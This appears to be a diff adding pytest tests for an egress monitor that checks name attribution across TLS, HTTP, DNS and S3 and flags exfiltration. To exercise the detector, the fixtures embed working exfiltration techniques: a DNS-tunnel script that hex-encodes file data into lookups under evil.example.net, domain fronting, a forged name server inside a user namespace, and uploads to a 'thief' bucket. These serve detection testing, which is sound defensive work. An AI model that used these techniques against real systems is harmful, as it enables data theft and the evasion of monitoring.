@@ -1,0 +1,457 @@
+# SPDX-License-Identifier: MIT OR GPL-2.0-only
+"""
+Names of destinations, as real clients give them: what is asked for in TLS, HTTP and DNS, how far it is believed, whom entries by
+name and bucket let through, whose bucket it is, and what goes unencrypted. The receivers count what came off the wire.
+"""
+import os
+
+import pytest
+
+import work
+from monitor import tagged, wait_for
+from talker import NameServer, TlsSink, certificate
+from where import PATIENCE
+
+pytestmark = pytest.mark.one_set
+
+SIZE = 300007
+PYTHON = "/usr/bin/python3"
+API, MODELS, THIEF = "api.example.org", "approved-models.s3.eu-west-1.amazonaws.com", "thief.s3.eu-west-1.amazonaws.com"
+
+
+@pytest.fixture
+def cert(tmp):
+    return certificate(tmp)
+
+
+@pytest.fixture
+def tls(cert):
+    """tls(lab.internet): a web server over TLS; ended with the test."""
+    made = []
+
+    def start(host, versions=""):
+        made.append(TlsSink(host, cert, versions))
+        return made[-1]
+
+    yield start
+    for one in made:
+        one.kill()
+
+
+@pytest.fixture
+def names(lab):
+    """names({...}): a name server in the VPC; ended with the test."""
+    made = []
+
+    def start(table, host=lab.vpc, **options):
+        made.append(NameServer(host, table, **options))
+        return made[-1]
+
+    yield start
+    for one in made:
+        one.kill()
+
+
+@pytest.fixture
+def run(tmp, job):
+    """run(server, "curl ..."): with that name server in its resolv.conf; ended with the test."""
+    made = []
+
+    def start(server, script, wait=True, **options):
+        conf = f"{tmp}/resolv.conf"
+        with open(conf, "w", encoding="utf-8") as f:
+            f.write(f"nameserver {server.ip}\noptions timeout:5 attempts:2\n" if server else "nameserver 127.0.0.7\n")
+        script = f"mount --bind {conf} /etc/resolv.conf\nexec bash -c '{script}'"
+        p = work.Process(tmp, f"run{len(made)}", ["unshare", "--mount", "bash", "-e", "-c", script], cgroup=job, **options)
+        made.append(p)
+        if wait:
+            status = p.wait(4 * PATIENCE)
+            assert status == 0, f"status {status}: {p.said()}"
+        return p
+
+    yield start
+    for one in made:
+        one.kill()
+
+
+@pytest.fixture
+def policy(lab, dataset):
+    """policy(server, {"name": ...}): believes that name server, and allows that."""
+    work.make_file(f"{dataset}/f", SIZE)
+
+    def make(server=None, *allow, **network):
+        more = {"resolvers": [server.ip]} if server else {}
+        if allow:
+            more["allow"] = list(allow)
+        return tagged(dataset, network={**lab.network, **more, **network})
+    return make
+
+
+def upload(dataset, url, *words):
+    return " ".join(["curl", "-sS", "-k", "--max-time", "60", "-o", "/dev/null", "-T", f"{dataset}/f", *words, url])
+
+
+def remotes(r, sink):
+    """The distinct ends of that port, as the flow records tell them."""
+    found = {}
+    for f in r.of("flow"):
+        if f["remote"]["port"] == sink.port and f["proto"] == "tcp":
+            found[str(f["remote"])] = f["remote"]
+    return list(found.values())
+
+
+def last_remote(r, sink):
+    return [f["remote"] for f in r.of("flow") if f["remote"]["port"] == sink.port][-1]
+
+
+def only_remote(r, sink):
+    all_ = remotes(r, sink)
+    assert len(all_) == 1, all_
+    return all_[0]
+
+
+def spoken(r, sink):
+    return {f["encrypted"] for f in r.of("flow") if f["remote"]["port"] == sink.port and f["proto"] == "tcp"}
+
+
+# --- TLS ---------------------------------------------------------------------------
+
+def test_allowed_by_name(sluice, policy, dataset, lab, tls, names, run):
+    s = tls(lab.internet)
+    d = names({API: [s.ip]})
+    m = sluice(policy(d, {"name": "*.example.org", "port": s.port}))
+    run(d, upload(dataset, f"https://{API}:{s.port}/"))
+    m.wait_records("the flow", lambda r: r.to(s) > SIZE)
+    shown = [i for i in m.show("destinations")["items"] if i["remote"]["port"] == s.port]
+    assert [(i["remote"]["name"], i["allowed"]) for i in shown] == [(API, True)]
+    assert shown[0]["because"].startswith("network.allow[0], line ")
+    r = m.stop()
+    assert s.bodies() == SIZE
+    assert r.to(s, "bytes_out") == s.bytes() > SIZE
+    assert SIZE < r.to(s) <= s.bytes()
+    end = only_remote(r, s)
+    assert (end["name"], end["name_source"], end["name_belief"], end["name_note"]) == (API, "sni", "resolved", None)
+    assert spoken(r, s) == {"tls1.3"}
+    assert API in d.asked()
+    assert r.findings() == {}
+
+
+def test_not_allowed(sluice, policy, dataset, lab, tls, names, run, job):
+    s = tls(lab.internet)
+    d = names({API: [s.ip]})
+    m = sluice(policy(d, {"name": "example.org"}, {"name": "*.api.example.org"}))
+    run(d, upload(dataset, f"https://{API}:{s.port}/"))
+    r = m.stop()
+    f = r.exfil(s)
+    assert f["leak_bound"] == min(s.bytes(), SIZE)
+    assert f["remote"]["name"] == API
+    assert f"to {API} ({s.ip}:{s.port}) outside the VPC" in f["title"]
+    assert f["chain"][-1]["to"] == f"{API} ({s.ip}:{s.port})"
+
+
+def test_fronting(sluice, policy, dataset, lab, tls, names, run):
+    """The name is that of an allowed host; the address never was."""
+    s = tls(lab.internet)
+    d = names({API: ["203.0.113.250"]})
+    m = sluice(policy(d, {"name": API}))
+    run(d, f"getent ahostsv4 {API} >/dev/null; " + upload(dataset, f"https://{API}:{s.port}/", "--resolve", f"{API}:{s.port}:{s.ip}"))
+    wait_for("the finding", lambda: m.now("findings")["items"])
+    shown = [i for i in m.show("destinations")["items"] if i["remote"]["port"] == s.port]
+    assert [(i["allowed"], i["because"]) for i in shown] == [(False, "its name resolved to other addresses, never to this one")]
+    r = m.stop()
+    assert only_remote(r, s)["name_belief"] == "fronted"
+    assert r.exfil(s)["leak_bound"] == min(s.bytes(), SIZE)
+
+
+def test_only_claimed(sluice, policy, dataset, lab, tls, names, run):
+    """No answer was ever seen for it: whoever connects to an address can say any name."""
+    s = tls(lab.internet)
+    d = names({})
+    m = sluice(policy(d, {"name": API}))
+    run(d, upload(dataset, f"https://{API}:{s.port}/", "--resolve", f"{API}:{s.port}:{s.ip}"))
+    r = m.stop()
+    assert only_remote(r, s)["name_belief"] == "claimed"
+    assert r.exfil(s)["remote"]["name"] == API
+
+
+def test_name_server_of_ones_own(sluice, policy, dataset, lab, tls, names, run):
+    """An answer from a server that the host is not set up to ask proves nothing."""
+    s = tls(lab.internet)
+    believed, own = names({}), names({API: [s.ip]}, host=lab.office)
+    m = sluice(policy(believed, {"name": API}))
+    run(own, upload(dataset, f"https://{API}:{s.port}/"))
+    r = m.stop()
+    assert only_remote(r, s)["name_belief"] == "claimed"
+    assert r.exfil(s)["leak_bound"] == min(s.bytes(), SIZE)
+    assert API in own.asked()
+
+
+def test_believed_address_in_a_namespace_of_ones_own(sluice, policy, dataset, lab, tls, names, run, tmp):
+    """Whoever makes a network namespace by a user namespace can give himself the name server's address there."""
+    s = tls(lab.internet)
+    d = names({})
+    forge = f"""
+import os, socket, subprocess, sys, threading
+sys.path.insert(0, "{os.path.dirname(os.path.abspath(__file__))}")
+import talker
+for words in (("link", "set", "lo", "up"), ("addr", "add", "{d.ip}/32", "dev", "lo")):
+    subprocess.run(["ip", *words], check=True)
+talker.serve_names("{d.ip}", {{"{API}": ["{s.ip}"]}})
+print(socket.getaddrinfo("{API}", 80, proto=socket.IPPROTO_TCP)[0][4][0], flush=True)
+"""
+    with open(f"{tmp}/forge.py", "w", encoding="utf-8") as f:
+        f.write(forge)
+    m = sluice(policy(d, {"name": API}))
+    p = run(d, f"unshare --user --map-root-user --net {PYTHON} {tmp}/forge.py")
+    assert s.ip in p.said()
+    run(d, upload(dataset, f"https://{API}:{s.port}/", "--resolve", f"{API}:{s.port}:{s.ip}"))
+    r = m.stop()
+    assert only_remote(r, s)["name_belief"] == "claimed"
+    assert r.exfil(s)["leak_bound"] == min(s.bytes(), SIZE)
+    assert d.asked() == []
+
+
+def test_alias_and_tcp(sluice, policy, dataset, lab, tls, names, run):
+    """By a chain of aliases, asked for over TCP."""
+    s = tls(lab.internet)
+    d = names({API: ["alias:edge.example.net"], "edge.example.net": [s.ip]})
+    m = sluice(policy(d, {"name": API}))
+    run(d, "export RES_OPTIONS=use-vc; " + upload(dataset, f"https://{API}:{s.port}/", "-4"))
+    r = m.stop()
+    assert r.to(s, "bytes_out") == s.bytes()
+    assert only_remote(r, s)["name_belief"] == "resolved"
+    assert r.findings() == {}
+
+
+@pytest.mark.parametrize("version, word", [("TLSv1_2", "tls1.2"), ("TLSv1_3", "tls1.3")])
+def test_versions(sluice, policy, dataset, lab, tls, names, run, version, word):
+    """As agreed, not as offered."""
+    s = tls(lab.internet, version)
+    d = names({API: [s.ip]})
+    m = sluice(policy(d))
+    run(d, upload(dataset, f"https://{API}:{s.port}/"))
+    r = m.stop()
+    assert spoken(r, s) == {word}
+    assert not r.findings("egress.plaintext")
+
+
+UNNAMED = """
+import socket, ssl, sys
+c = ssl._create_unverified_context().wrap_socket(socket.create_connection((sys.argv[1], int(sys.argv[2]))))
+data = open(sys.argv[3], "rb").read()
+c.sendall(b"PUT / HTTP/1.1\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(data) + data)
+c.recv(100)
+"""
+
+
+def test_no_name(sluice, policy, dataset, lab, tls, names, run, tmp):
+    """A client that asks for no name, at an address that resolved: no entry by name takes it."""
+    s = tls(lab.internet)
+    d = names({API: [s.ip]})
+    m = sluice(policy(d, {"name": API}))
+    with open(f"{tmp}/unnamed.py", "w", encoding="utf-8") as f:
+        f.write(UNNAMED)
+    run(d, f"getent ahostsv4 {API}; exec {PYTHON} {tmp}/unnamed.py {s.ip} {s.port} {dataset}/f")
+    r = m.stop()
+    end = only_remote(r, s)
+    assert (end["name"], end["name_source"], end["name_belief"], end["name_note"]) == (API, "dns", "claimed", "no-sni")
+    assert r.exfil(s)["leak_bound"] == min(s.bytes(), SIZE)
+    assert spoken(r, s) == {"tls1.3"}
+
+
+SLOWLY = """
+import socket, ssl, sys, time
+incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+context = ssl._create_unverified_context()
+client = context.wrap_bio(incoming, outgoing, server_hostname=sys.argv[1])
+c = socket.create_connection((sys.argv[2], int(sys.argv[3])))
+c.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+data = open(sys.argv[4], "rb").read()
+
+
+def push(step):
+    while True:
+        try:
+            got = step()
+            c.sendall(outgoing.read())
+            return got
+        except ssl.SSLWantReadError:
+            hello = outgoing.read()
+            for i in range(0, len(hello), 37):
+                c.sendall(hello[i:i + 37])
+                time.sleep(0.02)
+            incoming.write(c.recv(65536))
+
+
+push(client.do_handshake)
+push(lambda: client.write(b"PUT / HTTP/1.1\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(data)))
+for i in range(0, len(data), 16384):
+    push(lambda: client.write(data[i:i + 16384]))
+push(lambda: client.read(100))
+"""
+
+
+def test_hello_in_pieces(sluice, policy, dataset, lab, tls, names, run, tmp):
+    s = tls(lab.internet)
+    d = names({API: [s.ip]})
+    m = sluice(policy(d, {"name": API}))
+    with open(f"{tmp}/slowly.py", "w", encoding="utf-8") as f:
+        f.write(SLOWLY)
+    run(d, f"getent ahostsv4 {API}; exec {PYTHON} {tmp}/slowly.py {API} {s.ip} {s.port} {dataset}/f")
+    r = m.stop()
+    assert s.bodies() == SIZE
+    assert last_remote(r, s)["name"] == API
+    assert r.findings() == {}
+
+
+# --- plain -------------------------------------------------------------------------
+
+def test_http(sluice, policy, dataset, lab, http, names, run):
+    s = http(lab.internet)
+    d = names({API: [s.ip]})
+    m = sluice(policy(d, {"name": API}))
+    run(d, upload(dataset, f"http://{API}:{s.port}/"))
+    r = m.stop()
+    end = only_remote(r, s)
+    assert (end["name"], end["name_source"], end["name_belief"]) == (API, "http", "resolved")
+    assert spoken(r, s) == {False}
+    f = r.finding("egress.plaintext", s)
+    assert f["leak_bound"] == min(s.bytes(), SIZE)
+    assert f["severity"] in ("medium", "high", "critical")
+    assert r.findings() == {}
+
+
+def test_plain_in_the_vpc(sluice, policy, dataset, lab, sink, actor, job):
+    """What ranks send each other: said once, and no grave matter."""
+    sinks = [sink(lab.vpc) for _ in range(3)]
+    m = sluice(policy())
+    for s in sinks:
+        actor(f"read:{dataset}/f", s.to, "send:10007", cgroup=job).truth()
+    r = m.stop()
+    assert r.findings() == {}
+    f = r.finding("egress.plaintext")
+    assert f["remote"] is None
+    assert f["severity"] in ("info", "low")
+    assert f["leak_bound"] == sum(s.bytes() for s in sinks) == 30021
+
+
+def test_name_by_address(sluice, policy, dataset, lab, sink, names, run, actor, job):
+    """What says no name goes by the one that its address was asked for, if there is only one."""
+    s, other = sink(lab.internet), sink(lab.office)
+    d = names({API: [s.ip], "one.example.org": [other.ip], "two.example.org": [other.ip]})
+    m = sluice(policy(d, {"name": "*.example.org"}))
+    run(d, f"for n in {API} one.example.org two.example.org; do getent ahostsv4 $n; done")
+    for to in (s, other):
+        actor(f"read:{dataset}/f", to.to, "send:10007", cgroup=job).truth()
+    r = m.stop()
+    end = only_remote(r, s)
+    assert (end["name"], end["name_source"], end["name_belief"]) == (API, "dns", "resolved")
+    assert not r.findings("exfil.volume", s)
+    assert only_remote(r, other)["name"] is None
+    assert r.exfil(other)["leak_bound"] == other.bytes() == 10007
+
+
+# --- S3 ----------------------------------------------------------------------------
+
+@pytest.mark.parametrize("where", ["internet", "vpc"])
+def test_foreign_bucket(sluice, policy, dataset, lab, tls, names, run, job, where):
+    """One address, two buckets: the approved one, and a thief's; through an endpoint in the VPC as well."""
+    s = tls(getattr(lab, where))
+    d = names({MODELS: [s.ip], THIEF: [s.ip]})
+    m = sluice(policy(d, {"bucket": "approved-models"}, {"cidr": f"{s.ip}/32"}))
+    for name in (MODELS, THIEF):
+        run(d, upload(dataset, f"https://{name}:{s.port}/x"))
+    r = m.stop()
+    f, = r.findings().values()
+    assert f["rule"] == "s3.foreign-bucket"
+    assert (f["remote"]["bucket"], f["remote"]["service"], f["job"]) == ("thief", "s3", job.name)
+    assert "sent at most" in f["title"] and "to bucket thief, which nothing allows" in f["title"]
+    sent = {e["name"]: sum(i["bytes_out"] for i in r.of("flow") if i["remote"]["name"] == e["name"] and i["proto"] == "tcp")
+            for e in remotes(r, s)}
+    assert set(sent) == {MODELS, THIEF}
+    assert sum(sent.values()) == s.bytes()
+    assert f["leak_bound"] == min(sent[THIEF], SIZE)
+
+
+# --- DNS as a way out --------------------------------------------------------------
+
+TUNNEL = """
+import socket, sys
+data = open(sys.argv[1], "rb").read()[:int(sys.argv[4])]
+for i in range(0, len(data), 30):
+    try:
+        socket.getaddrinfo(data[i:i + 30].hex() + "." + sys.argv[3], 80, family=socket.AF_INET, type=socket.SOCK_STREAM)
+    except socket.gaierror:
+        pass
+print(len(data))
+"""
+RELAY = """
+import socket, sys
+s = socket.socket(type=socket.SOCK_DGRAM)
+s.bind(("127.0.0.53", 53))
+up = socket.socket(type=socket.SOCK_DGRAM)
+up.connect((sys.argv[1], 53))
+print("ready", flush=True)
+while True:
+    data, whom = s.recvfrom(4096)
+    up.send(data)
+    s.sendto(up.recv(4096), whom)
+"""
+
+
+@pytest.fixture
+def noise(dataset, policy):
+    """What is read is no text, so that its hex is as long as can be."""
+    with open(f"{dataset}/f", "wb") as f:
+        f.write(os.urandom(SIZE))
+    return f"{dataset}/f"
+
+
+def tunnel(tmp, noise, domain, n):
+    with open(f"{tmp}/tunnel.py", "w", encoding="utf-8") as f:
+        f.write(TUNNEL)
+    return f"exec {PYTHON} {tmp}/tunnel.py {noise} x {domain} {n}"
+
+
+@pytest.mark.parametrize("relayed", [False, True], ids=["direct", "local-resolver"])
+def test_tunnel(sluice, policy, dataset, lab, names, run, tmp, job, noise, relayed):
+    d = names({})
+    m = sluice(policy(d))
+    server, relay = d, None
+    if relayed:
+        with open(f"{tmp}/relay.py", "w", encoding="utf-8") as f:
+            f.write(RELAY)
+        relay = work.Process(tmp, "relay", [PYTHON, f"{tmp}/relay.py", d.ip])
+        relay.wait_said("ready")
+        server = type("Local", (), {"ip": "127.0.0.53"})
+    run(server, tunnel(tmp, noise, "evil.example.net", 3001))
+    wait_for("the finding", lambda: [f for f in m.now("findings")["items"] if f["rule"] == "dns.tunnel"])
+    asking = [p for p in m.show("processes")["items"] if p["dns"] and p["process"]["comm"] == "python3" and p["datasets"]]
+    assert asking and asking[0]["dns"]["names"] >= 101, asking
+    r = m.stop()
+    if relay:
+        relay.kill()
+    f = r.finding("dns.tunnel")
+    asked = [name for name in d.asked() if name.endswith(".evil.example.net")]
+    assert len(set(asked)) == 101
+    assert "example.net" in f["title"]
+    assert f["job"] == job.name and f["dataset"] == "set"
+    assert f["severity"] in ("medium", "high", "critical")
+    assert f["leak_bound"] >= sum(len(name) - len(".evil.example.net") for name in set(asked)) == 6002
+    assert f["leak_bound"] <= 2 * sum(len(name) for name in asked)
+    assert f["remote"]["addr"] == server.ip and f["remote"]["port"] == 53
+    assert f["chain"][0]["via"] == "read" and f["chain"][-1]["via"] == "dns"
+
+
+def test_ordinary_questions(sluice, policy, dataset, lab, names, run, tmp, noise):
+    """A tainted process that asks for some dozens of hosts, buckets and hashed names as they are."""
+    hosts = [f"node-{i}.cluster.local" for i in range(60)] + [f"d{i:013x}.cloudfront.net" for i in range(20)] + \
+        [f"my-bucket-{i}.s3.eu-west-1.amazonaws.com" for i in range(60)] + \
+        [f"ip-10-0-{i}-{j}.ec2.internal" for i in range(8) for j in range(8)]
+    d = names({h: ["203.0.113.9"] for h in hosts})
+    m = sluice(policy(d))
+    run(d, f"exec {PYTHON} -c \"import socket, sys; open(sys.argv[1], \"rb\").read(); [socket.gethostbyname(h) for h in sys.argv[2:]]\" {noise} " + " ".join(hosts))
+    r = m.stop()
+    assert len(set(d.asked())) >= len(hosts)
+    assert r.findings("dns.tunnel") == {}
+    assert r.findings() == {}
